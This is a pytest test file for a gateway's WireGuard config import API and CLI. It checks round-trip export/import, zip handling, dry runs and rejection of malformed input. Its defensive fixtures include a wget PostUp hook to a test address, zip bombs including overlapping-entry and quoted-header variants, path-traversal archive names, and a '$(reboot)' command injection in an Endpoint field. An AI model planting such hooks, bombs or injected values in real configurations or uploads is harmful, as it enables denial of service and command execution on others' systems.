"""Files of wg-quick become tunnels: what a peer's file says is there to the last value; what is bad changes nothing."""

import base64
import hashlib
import io
import os
import re
import struct
import zipfile
import zlib

import pytest
from ground.waiting import wait_until
from ground.world import World

KEYS = [base64.b64encode(os.urandom(32)).decode() for _ in range(2)]
PEERS = ["xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=", "TrMvSoP4jYQlY6RIzBgbssQqY3vxI2Pi+y71lOWWXX0="]
HOOK = "wget --password=hook-secret-of-somebody http://192.0.2.9/"
# KiB that the API daemon may have at once beyond what it had: a body, and what is read out of it.
GROWTH = 160 << 10
NOBODY = "00000000-0000-0000-0000-000000000000"


class Site(World):
    """Another gateway on the network of the first one, 192.0.2.50."""

    def __init__(self, binaries, first):
        self._first = first
        super().__init__(binaries)

    def _furnish(self):
        self._first.gateway.ip("link", "add", "site", "type", "veth", "peer", "name", "uplink", "netns",
                               self.gateway.name)
        self._first.gateway.ip("link", "set", "site", "master", "uplink", "up")
        self.gateway.ip("address", "add", "192.0.2.50/24", "dev", "uplink")
        self.gateway.ip("link", "set", "uplink", "up")
        self.gateway.ip("route", "add", "default", "via", "192.0.2.254")


@pytest.fixture(scope="module")
def worlds(binaries):
    first = World(binaries)
    try:
        site = Site(binaries, first)
        try:
            yield first, site
        finally:
            site.close()
    finally:
        first.close()


@pytest.fixture(autouse=True)
def _planted(request):
    """The worlds' files are searched for what is secret in the files that are imported."""
    for name in ("worlds", "shared_world", "world"):
        if name in request.fixturenames:
            value = request.getfixturevalue(name)
            for world in value if isinstance(value, tuple) else (value,):
                for key in KEYS:
                    world.secrets.add_key("an imported key", key)
                world.secrets.add("a hook", HOOK)


def text(address="10.60.0.1/24", key=KEYS[0], interface="", peers=""):
    return f"[Interface]\nPrivateKey = {key}\nAddress = {address}\n{interface}\n{peers}"


def peer(key=PEERS[0], ips="10.60.0.2/32", more=""):
    return f"[Peer]\nPublicKey = {key}\nAllowedIPs = {ips}\n{more}"


def send(world, body, type="text/plain", query=""):
    body = body.encode() if isinstance(body, str) else body
    return world.rest.post(f"/vpn/wg/import{query}", body, Content_Type=type)


def archive(files, compression=zipfile.ZIP_DEFLATED):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as file:
        for name, content in files:
            file.writestr(name, content)
    return made.getvalue()


def values(configuration):
    return dict(re.findall(r"^(\w+) = (.*)$", configuration, re.MULTILINE))


# MARK: What we export is what we import

def test_what_is_exported_and_imported_elsewhere_is_the_same_and_reaches_the_server(worlds):
    first, site = worlds
    tunnel = first.rest.tunnel(enabled=True, dns="10.0.0.1, office.example", mtu=1380, endpoint="192.0.2.1:51820")
    made = first.rest.peer(tunnel, "branch", preshared_key="auto", persistent_keepalive=25)
    exported = first.rest.get(
        f"/vpn/wg/{tunnel['id']}/peers/{made['id']}/config?split_tunnel=true").must(200).body.decode()
    site.secrets.read_text(exported)
    said = values(exported)
    answer = send(site, exported, query="?name=to%20the%20office").must(201)
    (one,) = answer.data
    new, (server,) = one["tunnel"], one["peers"]
    assert new["public_key"] == made["public_key"]
    assert (new["address"], new["dns"], str(new["mtu"])) == (said["Address"], said["DNS"], said["MTU"])
    assert (new["name"], new["interface"], new["enabled"], new["status"]) == ("to the office", "wg0", False, "down")
    assert server["public_key"] == said["PublicKey"] == tunnel["public_key"]
    assert server["has_preshared_key"] and not server["has_private_key"]
    assert server["endpoint"] == said["Endpoint"] and server["allowed_ips"] == said["AllowedIPs"].split(", ")
    assert str(server["persistent_keepalive"]) == said["PersistentKeepalive"] == "25"
    assert site.rest.get(f"/vpn/wg/{new['id']}").must(200).data == new
    # With the same keys: the server lets it in, by the pre-shared key too.
    site.rest.post(f"/vpn/wg/{new['id']}/start").must(200)
    assert site.gateway.run("ping", "-n", "-c", "3", "-i", "0.2", "-W", "2", "10.0.0.1", check=False).returncode == 0
    shown = first.gateway.run("wg", "show", "wg0", "latest-handshakes").stdout.split()
    assert shown[0] == made["public_key"] and int(shown[1]) > 0
    keys = {}
    for world in worlds:
        keys[world] = world.gateway.run("wg", "show", "wg0", "preshared-keys").stdout.split()[1]
    assert len(set(keys.values())) == 1 and keys[first] == said["PresharedKey"]
    # And it stays what it is: exported here, it is what was exported there.
    site.rest.delete(f"/vpn/wg/{new['id']}").must(200)


def test_of_a_full_tunnel_the_host_keeps_its_default_route_and_says_so(worlds):
    first, site = worlds
    tunnel = first.rest.get("/vpn/wg").must(200).data[0]
    made = first.rest.peer(tunnel, "roaming")
    exported = first.rest.config(tunnel, made)
    site.secrets.read_text(exported)
    before = site.gateway.ip("route")
    answer = send(site, exported).must(201)
    (warning,) = [one for one in answer.json["warnings"] if "0.0.0.0/0" in one]
    assert warning.startswith("config line ") and "no default route is ever installed" in warning
    (one,) = answer.data
    assert one["peers"][0]["allowed_ips"] == ["0.0.0.0/0"]
    site.rest.post(f"/vpn/wg/{one['tunnel']['id']}/start").must(200)
    assert site.gateway.ip("route") == before
    assert site.wireguard() == {tunnel["public_key"]: {"0.0.0.0/0"}}
    site.rest.delete(f"/vpn/wg/{one['tunnel']['id']}").must(200)


# MARK: Forms

def test_a_zip_is_many_tunnels_and_a_dry_run_says_which(world):
    files = [
        ("wireguard/wg5.conf", text("10.61.0.1/24", KEYS[0], f"ListenPort = 51999\nPostUp = {HOOK}",
                                    "# laptop\n" + peer(PEERS[0], "10.61.0.2", "PersistentKeepalive = 25"))),
        ("office.conf", text("10.62.0.1/24, fd62::1/64", KEYS[1], "MTU = 1400\nFwMark = 0x10\nTable = off",
                             "### Client eve\n" + peer(PEERS[1], "10.62.0.2, fd62::2"))),
        ("README.txt", "not a tunnel"), ("wireguard/", "")]
    body = archive(files)
    before = state(world)
    dry = send(world, body, "application/zip", "?dry_run=true").must(200)
    assert state(world) == before
    assert {one["tunnel"]["id"] for one in dry.data} == {NOBODY}
    real = send(world, body, "application/zip").must(201)
    assert real.headers["Location"] == "/api/v1/vpn/wg"

    def core(answer):
        return [([{name: value for name, value in thing.items() if not re.search("id$|_at$", name)}
                  for thing in (one["tunnel"], *one["peers"])], one["file"]) for one in answer.data]

    assert core(real) == core(dry) and real.json["warnings"] == dry.json["warnings"]
    assert [(one["tunnel"]["name"], one["tunnel"]["interface"], one["tunnel"]["listen_port"], one["file"])
            for one in real.data] == [("wg5", "wg5", 51999, "wg5.conf"), ("office", "wg0", 51820, "office.conf")]
    assert [one["peers"][0]["name"] for one in real.data] == ["laptop", "eve"]
    assert {one.split(":")[0] for one in real.json["warnings"]} == {
        "README.txt", "wg5.conf line 5", "office.conf line 6"}
    audit = world.rest.get("/audit?action=import").must(200).data
    assert {(one["object"]["type"], one["object"]["name"]) for one in audit} == {
        ("tunnel", "wg5"), ("tunnel", "office"), ("peer", "laptop"), ("peer", "eve")}
    assert all(one["changes"]["public_key"]["from"] is None for one in audit)
    # They work: what was imported can be started.
    for one in real.data:
        world.rest.post(f"/vpn/wg/{one['tunnel']['id']}/start").must(200)
    assert world.wireguard("wg5") == {PEERS[0]: {"10.61.0.2/32"}}
    assert world.wireguard("wg0") == {PEERS[1]: {"10.62.0.2/32", "fd62::2/128"}}
    # The same once more: all of it is there already.
    again = send(world, body, "application/zip").must(409)
    assert again.json["type"] == "/problems/conflict"


def test_the_command_line_shows_asks_and_imports_all_or_nothing(world):
    folder = world.folder / "clients"
    for number, key in enumerate(KEYS):
        file = folder / f"site{number}.conf"
        file.touch(mode=0o600)
        file.write_text(text(f"10.7{number}.0.1/24", key, f"PostUp = {HOOK}", peer(PEERS[number], f"10.7{number}.0.2")))
    shown = world.aifw("vpn", "wg-import", "--dry-run", "site0.conf", "site1.conf")
    assert "site0.conf" in shown.stdout and "10.71.0.1/24" in shown.stdout and "Nothing was changed" in shown.stderr
    assert world.rest.get("/vpn/wg").must(200).data == []
    world.rest.tunnel(name="site1", interface="wg9", listen_port=51999, address="10.99.0.1/24")
    refused = world.aifw("vpn", "wg-import", "--yes", "site0.conf", "site1.conf", check=False)
    assert refused.returncode == 1 and 'is in use by tunnel "site1"' in refused.stderr
    assert len(world.rest.get("/vpn/wg").must(200).data) == 1
    asked = world.aifw("vpn", "wg-import", "site0.conf", check=False)
    assert asked.returncode == 65 and "--yes" in asked.stderr
    done = world.aifw("vpn", "wg-import", "--yes", "--name", "first", "--interface", "wg3", "site0.conf")
    assert re.search(r"wg3 +51820 +1 +10\.70\.0\.1/24 +site0\.conf +first", done.stdout), done.stdout
    assert "PostUp is dropped" in done.stderr and HOOK not in done.stderr
    world.aifw("vpn", "wg-start", "first")
    assert world.wireguard("wg3") == {PEERS[0]: {"10.70.0.2/32"}}
    for answer, count in (("n", 2), ("", 2), ("y", 3)):
        with world.terminal("vpn", "wg-import", "--name", "asked", "--interface", "wg4", "site1.conf") as terminal:
            terminal.until("PostUp is dropped").until("Import 1 tunnel? [y/N] ").type(f"{answer}\n")
            assert terminal.end() == 0
            assert ("Start one" if answer == "y" else "Nothing was changed") in terminal.shown
        assert len(world.rest.get("/vpn/wg").must(200).data) == count


def test_ten_thousand_peers_are_one_transaction(world):
    peers = "".join(
        f"# client {number}\n[Peer]\nPublicKey = {key_of(number)}\n"
        f"AllowedIPs = 10.{64 + number // 65536}.{number // 256 % 256}.{number % 256}/32\n"
        for number in range(2, 10_002))
    answer = send(world, text("10.64.0.1/10", peers=peers), query="?name=large").must(201)
    (one,) = answer.data
    assert one["tunnel"]["peer_count"] == len(one["peers"]) == 10_000
    assert one["peers"][-1]["name"] == "client 10001"
    more = peers + peer(PEERS[0], "10.65.0.9/32")
    refused = send(world, text("10.128.0.1/10", KEYS[1], peers=more), query="?name=larger").must(422)
    assert refused.json["errors"][0]["detail"].startswith("is one peer more")


def key_of(number):
    return base64.b64encode(hashlib.sha256(str(number).encode()).digest()).decode()


# MARK: Bad input

def crc(data):
    return zlib.crc32(data) & 0xFFFFFFFF


def entry(name, packed, size, checksum, method=8, flags=0, offset=None):
    return name.encode(), packed, size, checksum, method, flags, offset


def raw_zip(entries):
    """A zip file whose numbers are what they are said to be, true or not. An entry with an offset has no bytes."""
    body, directory = b"", b""
    for name, packed, size, checksum, method, flags, offset in entries:
        numbers = struct.pack("<HHHHIII", flags, method, 0, 33, checksum, len(packed), size)
        place = len(body) if offset is None else offset
        if offset is None:
            body += b"PK\3\4" + struct.pack("<H", 20) + numbers + struct.pack("<HH", len(name), 0) + name + packed
        directory += (b"PK\1\2" + struct.pack("<HH", 20, 20) + numbers
                      + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, place) + name)
    return body + directory + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory),
                                                      len(body), 0)


def deflated(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def bomb(size):
    """`size` bytes of nothing, packed."""
    packer, packed = zlib.compressobj(9, zlib.DEFLATED, -15), b""
    for _ in range(size >> 20):
        packed += packer.compress(bytes(1 << 20))
    return packed + packer.flush()


def overlapping():
    """As Fifield's: many entries, all of which are the same bytes; their header has one name."""
    kernel = bomb(32 << 20)
    first = entry("a.conf", kernel, 32 << 20, 0)
    return raw_zip([first] + [entry("a.conf", kernel, 32 << 20, 0, offset=0)] * 500)


def quoted():
    """The other way of his: the header of the second entry is content of the first."""
    inner = raw_zip([entry("b.conf", b"x", 1, crc(b"x"), method=0)])
    local = inner[:30 + 6 + 1]
    return raw_zip([entry("a.conf", local, len(local), crc(local), method=0),
                    entry("b.conf", b"x", 1, crc(b"x"), method=0, offset=30 + 6)])


def huge(packed, size):
    return raw_zip([entry("a.conf", packed, size, 0)])


GOOD = text(peers=peer())
ZIPS = {
    "nothing": b"", "no zip": b"PK\3\4" + bytes(1000), "an empty one": archive([]),
    "no configuration in it": archive([("a.txt", "x")]),
    "a bomb that says so": huge(bomb(512 << 20), 512 << 20), "a bomb that lies": huge(bomb(512 << 20), 100),
    "a bomb within the limit of a zip": huge(bomb(60 << 20), 60 << 20),
    "twenty files of a bomb": raw_zip([entry(f"{n}.conf", bomb(4 << 20), 4 << 20, 0) for n in range(20)]),
    "overlapping entries": overlapping(), "quoted headers": quoted(),
    "an archive in it": archive([("inner.zip", archive([("a.conf", GOOD)]))]),
    "archives in archives": archive([("a.conf", archive([("a.conf", archive([("a.conf", GOOD)]))]))]),
    "a way upwards": archive([("../../etc/a.conf", GOOD)]), "an absolute path": archive([("/etc/a.conf", GOOD)]),
    "a backslash": raw_zip([entry("..\\a.conf", GOOD.encode(), len(GOOD), crc(GOOD.encode()), method=0)]),
    "a NUL": raw_zip([entry("a.conf\0.txt", GOOD.encode(), len(GOOD), crc(GOOD.encode()), method=0)]),
    "a name twice": raw_zip([entry("a.conf", GOOD.encode(), len(GOOD), crc(GOOD.encode()), method=0)] * 2),
    "a name in two folders": archive([("a/a.conf", GOOD), ("b/a.conf", text("10.63.0.1/24", KEYS[1]))]),
    "encrypted": raw_zip([entry("a.conf", GOOD.encode(), len(GOOD), crc(GOOD.encode()), method=0, flags=1)]),
    "another method": archive([("a.conf", GOOD)], zipfile.ZIP_BZIP2),
    "a wrong checksum": huge(deflated(GOOD.encode()), len(GOOD)),
    "cut off": archive([("a.conf", GOOD)])[:-30], "more behind it": archive([("a.conf", GOOD)]) + b"x",
    "too many": archive([(f"{n}.conf", "") for n in range(1001)]),
    "one good file and a bad one": archive([("a.conf", GOOD), ("b.conf", text("10.0.0.0/8", KEYS[1]))]),
}
TEXTS = {
    "empty": "", "NUL": GOOD + "\0", "an escape": GOOD + "# \x1b[2J", "Latin-1": (GOOD + "# é").encode("latin-1"),
    "no text": bytes(range(256)) * 100, "no section": "PrivateKey = x",
    "no private key": "[Interface]\nAddress=1.1.1.1",
    "sixty megabytes in a line": b"#" * (60 << 20),
    "sixty megabytes of lines": b"x\n" * (30 << 20), "an unknown key": text(interface="Jc = 4"),
    "a key in the wrong section": text(interface="AllowedIPs = 0.0.0.0/0"),
    "a hook in a peer": text(peers=peer(more=f"PostUp = {HOOK}")),
    "a hook behind a carriage return": text(interface=f"DNS = 10.0.0.1\rPostUp = {HOOK}"),
    "a peer twice": text(peers=peer() + peer(ips="10.60.0.3/32")),
    "an address twice": text(peers=peer() + peer(PEERS[1])), "a key twice": text(interface=f"PrivateKey = {KEYS[1]}"),
    "the tunnel's own address": text(peers=peer(ips="10.60.0.1/32")),
    "bits behind": text(peers=peer(ips="10.60.0.9/24")),
    "a port that is none": text(interface="ListenPort = 65536"), "a mark that is none": text(interface="FwMark = -1"),
    "loopback": text("127.0.0.2/8"), "the host's network": text("192.0.2.77/24"), "all there is": text("1.0.0.1/0"),
    "an endpoint that is none": text(peers=peer(more="Endpoint = $(reboot):1")),
    "a private key for a public one, in part": text(peers=peer(key=KEYS[1][:-1])),
}


def state(world):
    """All that a change would show in."""
    tunnels = world.rest.get("/vpn/wg").must(200).intent
    audit = world.rest.get("/audit").must(200).json["total"]
    return tunnels, audit, sorted(world.gateway.links()), world.gateway.run("nft", "list", "ruleset").stdout


def peak(world):
    """KiB that the API daemon has had at most."""
    return int(re.search(r"VmHWM:\s+(\d+)", open(f"/proc/{world.api.pid}/status").read())[1])


@pytest.mark.parametrize("name", list(ZIPS))
def test_a_bad_archive_is_refused_and_changes_nothing(shared_world, name):
    _refused(shared_world, ZIPS[name], "application/zip")


@pytest.mark.parametrize("name", list(TEXTS))
def test_a_bad_file_is_refused_and_changes_nothing(shared_world, name):
    _refused(shared_world, TEXTS[name], "text/plain")


def _refused(world, body, type):
    before, memory = state(world), peak(world)
    for query in ("", "?dry_run=true"):
        answer = send(world, body, type, query).must(422)
        faults = answer.json["errors"]
        assert faults and all(fault["detail"] for fault in faults)
    assert state(world) == before
    assert peak(world) < memory + GROWTH, f"{memory} KiB at most have become {peak(world)}"
    world.rest.get("//readyz").must(200)


def test_what_is_longer_than_is_taken_is_not_even_read(shared_world):
    answer = shared_world.rest.post(
        "/vpn/wg/import", b"#", Content_Type="text/plain", Content_Length=str(100 << 20))
    answer.must(413)
    wait_until(lambda: shared_world.rest.get("//readyz").status == 200, "the service to be ready")
    for kind in ("application/x-tar", "text/html", "multipart/form-data; boundary=x"):
        shared_world.rest.post("/vpn/wg/import", b"x", Content_Type=kind).must(415)


def test_who_may_only_read_imports_nothing(shared_world):
    reader = shared_world.rest.post("/tokens", {"name": "reads", "scopes": ["vpn:read"]}).must(201).data["token"]
    rest = shared_world.rest.by(reader)
    rest.post("/vpn/wg/import?dry_run=true", GOOD.encode(), Content_Type="text/plain").must(403)
